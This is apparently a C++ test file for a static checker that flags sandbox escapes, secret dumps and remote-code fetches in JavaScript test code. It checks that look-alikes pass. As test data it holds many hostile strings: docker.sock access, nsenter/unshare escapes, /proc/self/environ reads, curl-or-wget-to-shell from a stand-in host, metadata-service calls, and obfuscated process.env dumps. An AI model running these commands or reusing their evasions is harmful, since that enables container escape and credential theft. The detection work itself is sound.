// ALWAYS_BLOCK, pattern by pattern, written by hand. Each act must be found in the container and on the host, and its
// look-alikes in neither.
#include "tests/support/validator/check_support.h"

namespace guard {
namespace {

// Found in both modes.
void expect_always(const std::string& rule, const std::string& text) {
  EXPECT_TRUE(finds(rule, text, kDocker)) << rule << " in docker: " << text;
  EXPECT_TRUE(finds(rule, text, kHost)) << rule << " on the host: " << text;
}

// No rule of this tier says anything.
void expect_no_always(const std::string& text) {
  for (const std::string& rule : rules_of(text, kHost)) {
    EXPECT_NE(rule.substr(0, 7), "always.") << rule << ": " << text;
  }
}

const std::string kSpawn = "import { execSync, spawnSync } from 'node:child_process';\n";
const std::string kFfi = "import { dlopen } from 'bun:ffi';\n";

// --- sandbox escape ---

TEST(AlwaysBlock, EngineSockets) {
  expect_always("always.engine_socket", "connect('/var/run/docker.sock')");
  expect_always("always.engine_socket", "connect('/run/containerd/containerd.sock')");
  expect_always("always.engine_socket", "connect('/run/user/1000/podman/podman.sock')");
  expect_always("always.engine_socket", "connect('/var/run/doc' + 'ker.sock')");
  expect_always("always.engine_socket", "connect(`/var/run/${'docker'}.sock`)");
  expect_always("always.engine_socket", "execSync('curl --unix-socket /var/run/docker.sock http://d/info')");
}

TEST(AlwaysBlock, LeavesTalkAboutSocketsAlone) {
  expect_no_always("// talks to /var/run/docker.sock\nconnect('/tmp/app.sock')");
  expect_no_always("const hook = 'docker.socket_count'");
}

TEST(AlwaysBlock, ProcFiles) {
  for (const char* owner : {"self", "thread-self", "1", "4711"}) {
    for (const char* file : {"environ", "cmdline", "fd", "root", "mem", "maps", "cwd"}) {
      expect_always("always.proc_file", std::string("read('/proc/") + owner + "/" + file + "')");
    }
  }
}

TEST(AlwaysBlock, ProcFilesInOtherSpellings) {
  expect_always("always.proc_file", "read('/proc//self/./environ')");
  expect_always("always.proc_file", "read('/proc/x/../self/environ')");
  expect_always("always.proc_file", "read(`/proc/${process.ppid}/environ`)");
  expect_always("always.proc_file", "read('/proc/' + pid + '/cmdline')");
  expect_always("always.proc_file", "read(path.join('/proc', 'self', 'environ'))");
  expect_always("always.proc_file", "read(['', 'proc', 'self', 'environ'].join('/'))");
  expect_always("always.proc_file", "read('/proc/self/task/12/environ')");
  expect_always("always.proc_file", "read('/proc/self/fd/3')");
  expect_always("always.proc_file", "read(new URL('file:///proc/self/environ'))");
  expect_always("always.proc_file", "read('\\x2fproc\\u002fself\\57environ')");
  expect_always("always.proc_file", "const dir = '/proc/self'; read(dir + '/environ')");
  expect_always("always.proc_file", "readdirSync('/proc')");
}

TEST(AlwaysBlock, LeavesHarmlessProcFilesAlone) {
  expect_no_always("read('/proc/cpuinfo'); read('/proc/meminfo'); read('/proc/self/status')");
  expect_no_always("/* /proc/self/environ */ route('/process/self/environment')");
}

TEST(AlwaysBlock, Mount) {
  expect_always("always.mount", kSpawn + "spawnSync('mount', ['--bind', '/', '/mnt'])");
  expect_always("always.mount", kSpawn + "execSync('mount -t proc proc /mnt')");
  expect_always("always.mount", kSpawn + "execSync('cd / && sudo /bin/mount -o remount,rw /')");
  expect_always("always.mount", kSpawn + "execSync('sh -c \"mount --bind / /mnt\"')");
  expect_always("always.mount", kSpawn + "execSync('umount /proc')");
  expect_always("always.mount", kSpawn + "execSync('mount')");
  expect_always("always.native_escape", kFfi + "dlopen('libc.so.6', { mount: { args: [] } })");
}

TEST(AlwaysBlock, LeavesComponentsThatMountAlone) {
  expect_no_always("const view = mount('<p>hi</p>'); view.unmount(); expect(amount).toBe(1)");
  expect_no_always(kSpawn + "const view = mount(App); it('mounts and unmounts', f); onMounted(f)");
  expect_no_always(kSpawn + "it('fetches once on mount', f); expect('mountain').toContain('mount')");
}

TEST(AlwaysBlock, NamespaceTools) {
  expect_always("always.namespace_tool", kSpawn + "execSync('nsenter -t 1 -m -u -n -i sh')");
  expect_always("always.namespace_tool", kSpawn + "spawnSync('/usr/bin/nsenter', ['-t', '1'])");
  expect_always("always.namespace_tool", kSpawn + "spawnSync('unshare', ['-Urm', 'id'])");
  expect_always("always.namespace_tool", kSpawn + "execSync('true; unshare -r id')");
  expect_no_always("doc.unshare('someone'); // unshare, nsenter");
  expect_no_always(kSpawn + "it('can unshare a document', f)");
}

TEST(AlwaysBlock, SystemCallsThroughNativeCode) {
  for (const char* call : {"setns", "ptrace", "unshare", "mount", "pivot_root", "init_module", "finit_module"}) {
    expect_always("always.native_escape", kFfi + "dlopen('libc.so.6', { " + call + ": { args: [] } })");
  }
  expect_no_always("const setns = 1; ptrace(ray)");
}

TEST(AlwaysBlock, PrivilegedContainers) {
  expect_always("always.privileged_container", kSpawn + "execSync('docker run --privileged alpine')");
  expect_always("always.privileged_container", kSpawn + "spawnSync('docker', ['run', '--privileged', 'alpine'])");
  expect_no_always("expect(help).toContain('--privileged')");
  expect_no_always(kSpawn + "execSync('x --privileged-users')");
}

TEST(AlwaysBlock, KernelHooksAndModules) {
  expect_always("always.kernel_hook", "write('/sys/fs/cgroup/rdma/release_agent', x)");
  expect_always("always.kernel_hook", "write('/proc/sys/kernel/core_pattern', '|/x')");
  expect_always("always.kernel_module", kSpawn + "execSync('insmod x.ko')");
  expect_always("always.kernel_module", kSpawn + "spawnSync('modprobe', ['overlay'])");
  expect_no_always("const agent = 'release agent'; it('insmod', f)");
}

TEST(AlwaysBlock, ActsMayBeSplitOverTwoFiles) {
  const std::vector<SourceFile> files = {{"sandbox/run.ts", kSpawn + "export const sh = (c) => execSync(c);"},
      {"sandbox/a.test.ts", "import { sh } from './run'; sh('nsenter -t 1 -a id');"}};
  bool found = false;
  for (const Finding& finding : check(files, kDocker).findings) {
    found = found || (finding.rule == "always.namespace_tool" && finding.path == "sandbox/a.test.ts");
  }
  EXPECT_TRUE(found);
  // Alone the second file can't start anything.
  EXPECT_FALSE(finds("always.namespace_tool", files[1].bytes));
}

// --- build attacks ---

TEST(AlwaysBlock, NpmInstall) {
  expect_always("always.install_packages", "execSync('npm install left-pad')");
  expect_always("always.install_packages", "execSync('npm   install')");
  expect_always("always.install_packages", "execSync('npm --silent install x')");
  expect_always("always.install_packages", "spawnSync('npm', ['install', 'x'])");
  expect_always("always.install_packages", "await $`npm install x`");
  expect_always("always.install_packages", "execSync('np' + 'm install')");
  expect_always("always.install_packages", "execSync('npm${IFS}install')");
  expect_always("always.install_packages", "execSync('n\\'p\\'m install')");
  expect_no_always("// npm install\nit('installs npm packages', f)");
  expect_no_always("/* first: npm install */ const guide = 'npm installation'");
}

TEST(AlwaysBlock, PipInstall) {
  expect_always("always.install_packages", "execSync('pip install requests')");
  expect_always("always.install_packages", "execSync('pip3 --quiet install requests')");
  expect_always("always.install_packages", "execSync('python3 -m pip install requests')");
  expect_no_always("// pip install requests\nconst text = 'pipeline installed'");
}

TEST(AlwaysBlock, OtherPackageManagers) {
  for (const char* command : {"npm i x", "npm ci", "yarn add x", "yarn install", "pnpm add x", "pnpm install",
           "pnpm dlx x", "bun add x", "bun install", "bun i", "npx cowsay", "npx --yes cowsay", "bunx cowsay",
           "apt-get install -y nmap", "cd /tmp && npm ci", "sudo apk add curl"}) {
    expect_always("always.install_command", kSpawn + "execSync('" + command + "')");
  }
  expect_always("always.install_command", kSpawn + "spawnSync('yarn', ['add', 'x'])");
  expect_no_always(kSpawn + "execSync('npm run build'); execSync('bun test'); execSync('yarn test')");
  expect_no_always("expect(hint).toBe('yarn add x')");
}

TEST(AlwaysBlock, CurlPipedIntoAShell) {
  for (const char* command : {"curl https://x.invalid/i|sh", "curl https://x.invalid/i | bash",
           "curl -sSL https://x.invalid/i | sudo -E bash -", "curl https://x.invalid/i | sh -s -- -y",
           "curl https://x.invalid/i | /bin/sh", "curl https://x.invalid/i | python3",
           "bash <(curl -s https://x.invalid/i)", "sh -c \"$(curl -fsSL https://x.invalid/i)\"",
           "curl https://x.invalid \\n | zsh", "wget -qO- https://x.invalid/i | sh", "echo aWQ= | base64 -d | sh",
           "eval `curl https://x.invalid/i`"}) {
    expect_always("always.fetch_and_run", std::string("execSync('") + command + "')");
  }
  expect_no_always("const help = ['curl | http client', 'bash | shell'].join('\\n')");
  expect_no_always("// curl https://x.invalid/i | sh\nexecSync('curl -s http://127.0.0.1/health')");
}

TEST(AlwaysBlock, Wget) {
  expect_always("always.wget", "execSync('wget https://x.invalid/setup.sh')");
  expect_always("always.wget", "execSync('wget -q -O /tmp/x https://x.invalid/i')");
  expect_always("always.wget_command", kSpawn + "execSync('cd /tmp; wget x.invalid/i')");
  expect_always("always.wget_command", kSpawn + "spawnSync('wget', [host])");
  expect_no_always("// wget https://x.invalid\nconst widget = 1; it('replaces wget', f)");
}

TEST(AlwaysBlock, MetadataService) {
  expect_always("always.metadata_service", "await fetch('http://169.254.169.254/latest/')");
  expect_no_always("expect(isPrivate('169.254.169.254')).toBe(true)");
}

// --- bulk environment dumps ---

TEST(AlwaysBlock, ObjectKeysValuesEntries) {
  for (const char* base : {"process.env", "Bun.env", "import.meta.env"}) {
    for (const char* call : {"keys", "values", "entries", "assign", "fromEntries", "getOwnPropertyNames"}) {
      expect_always("always.env_dump", std::string("const a = Object.") + call + "(" + base + ");");
    }
  }
}

TEST(AlwaysBlock, JsonStringifyOfTheEnvironment) {
  expect_always("always.env_dump", "JSON.stringify(process.env)");
  expect_always("always.env_dump", "JSON.stringify(process.env, null, 2)");
  expect_always("always.env_dump", "JSON.stringify({ env: process.env })");
}

TEST(AlwaysBlock, LoopsOverTheEnvironment) {
  expect_always("always.env_dump", "for (const key in process.env) use(key)");
  expect_always("always.env_dump", "for (const pair of Object.entries(process.env)) use(pair)");
  expect_always("always.env_dump", "for (const key of process.env) use(key)");
}

TEST(AlwaysBlock, LoggingAndPassingTheEnvironment) {
  expect_always("always.env_dump", "console.log(process.env)");
  expect_always("always.env_dump", "console.table(process.env);");
  expect_always("always.env_dump", "use({ ...process.env })");
  expect_always("always.env_dump", "use([...Object.keys(process.env)])");
  expect_always("always.env_dump", "new URLSearchParams(process.env as any)");
  expect_always("always.env_dump", "structuredClone(process.env)");
  expect_always("always.env_dump", "spawn('x', { env: process.env })");
  expect_always("always.env_dump", "const all = process.env");
  expect_always("always.env_dump", "export default process.env;");
  expect_always("always.env_dump", "const f = () => process.env;");
  expect_always("always.env_dump", "process.env = {};");
  expect_always("always.env_dump", "`${process.env}`");
  expect_always("always.env_dump", "use(process.env ?? {})");
}

TEST(AlwaysBlock, TheEnvironmentUnderOtherNames) {
  expect_always("always.env_dump", "const { env } = process; use(env)");
  expect_always("always.env_dump", "const { env: e, pid } = process; use(e)");
  expect_always("always.env_dump", "let p; p = process; use(p.env)");
  expect_always("always.env_dump", "import { env as e } from 'process'; use(e)");
  expect_always("always.env_dump", "import * as p from 'node:process'; use(p.env)");
  expect_always("always.env_dump", "import { env } from 'bun'; use(env)");
  expect_always("always.env_dump", "const { A, ...rest } = process.env;");
  expect_always("always.env_dump", "const all = ({ A } = process.env);");
  expect_always("always.env_dump", "use(globalThis['process']['env'])");
  expect_always("always.env_dump", "use(process[['e', 'n', 'v'].join('')])");
  expect_always("always.env_dump", "use(process[atob('ZW52')])");
  expect_always("always.process_as_value", "const [{ env: v }] = [process];");
  expect_always("always.computed_global", "use(process[name])");
  expect_always("always.computed_global", "globalThis['pro' + rest].x");
  expect_always("always.computed_global", "Reflect.get(process, name)");
}

TEST(AlwaysBlock, ChildrenThatPrintTheEnvironment) {
  expect_always("always.env_dump_child", "Bun.spawnSync(['env'])");
  expect_always("always.env_dump_child", kSpawn + "execSync('printenv')");
  expect_always("always.env_dump_child", kSpawn + "execSync('true; env | sort')");
  expect_no_always(kSpawn + "execSync('env MODE=1 node x.js')");
}

TEST(AlwaysBlock, StringsThatBecomeCode) {
  expect_always("always.code_in_string", "Function('return process.env')()");
  expect_always("always.code_in_string", "eval('JSON.stringify(process.env)')");
  expect_always("always.code_in_string", "await import('data:text/javascript,export default process.env')");
}

TEST(AlwaysBlock, LeavesSingleVariablesAlone) {
  expect_no_always("expect(process.env.NODE_ENV).toBe('test')");
  expect_no_always("process.env.MODE = 'x'; delete process.env.MODE; process.env[name] = 'y'");
  expect_no_always("const { MODE, TZ: zone = 'UTC' } = process.env;");
  expect_no_always("let saved: typeof process.env; type E = keyof typeof process.env;");
  expect_no_always("// console.log(process.env)\nit('never prints process.env', f); const s = 'process.env'");
  expect_no_always("Object.keys(ctx.env); config.env; const env = {}; use(env)");
}

TEST(AlwaysBlock, CommentsNeverMatch) {
  expect_no_always("/* docker.sock /proc/self/environ npm install curl x | sh JSON.stringify(process.env) */");
  expect_no_always("// mount -t proc\n// nsenter -t 1\n// wget https://x.invalid\n");
}

// A line separator ends a line comment; what follows is code.
TEST(AlwaysBlock, CodeBehindAnUnusualLineEndIsCode) {
  expect_always("always.env_dump", "// note\xe2\x80\xa8use(process.env)");
  expect_always("always.env_dump", "// note\ruse(process.env)");
}

TEST(AlwaysBlock, CommentSignsInStringsHideNothing) {
  expect_always("always.env_dump", "const a = '/*'; use(process.env); const b = '*/';");
  expect_always("always.env_dump", "const a = /[/*]/; use(process.env); /* */");
  expect_always("always.env_dump", "const a = `//`; use(process.env)");
  expect_always("always.env_dump", "const a = 'http://x'; use(process.env)");
}

}  // namespace
}  // namespace guard
